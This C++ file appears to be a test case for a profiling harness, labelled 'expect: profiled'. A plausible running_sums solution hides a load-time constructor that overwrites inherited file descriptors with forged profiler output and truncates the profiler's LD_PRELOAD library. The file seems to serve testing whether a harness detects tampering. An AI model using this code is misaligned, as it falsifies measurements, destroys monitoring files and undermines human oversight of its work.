// expect: profiled
// task: profiled
// Writes into everything that it inherited and into the profiler's own library.
#include "task.hpp"
#include <cstdio>
#include <cstdlib>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>


__attribute__((constructor)) static void attack() {
    if (access("/proc/self", F_OK) != 0) return;  // only where a profiler looks on
    for (int file = 3; file < 200; ++file) {
        char name[64];
        snprintf(name, sizeof name, "/proc/self/fd/%d", file);
        const int again = open(name, O_RDWR);
        if (again < 0) continue;
        const char text[] = "startup\tname=/etc/shadow\nruntime\ttime=1\n";
        if (pwrite(again, text, sizeof text - 1, 0) < 0 && ftruncate(again, 0) < 0) close(again);
    }
    const char* library = getenv("LD_PRELOAD");
    const int file = library ? open(library, O_RDWR | O_TRUNC) : -1;
    if (file >= 0) ftruncate(file, 0) == 0 ? close(file) : 0;
}

extern "C" void running_sums(const std::uint32_t* numbers, std::size_t count, std::uint64_t* sums) {
    std::uint64_t sum = 0;
    for (std::size_t i = 0; i < count; ++i) sums[i] = sum += worth(numbers[i]);
}
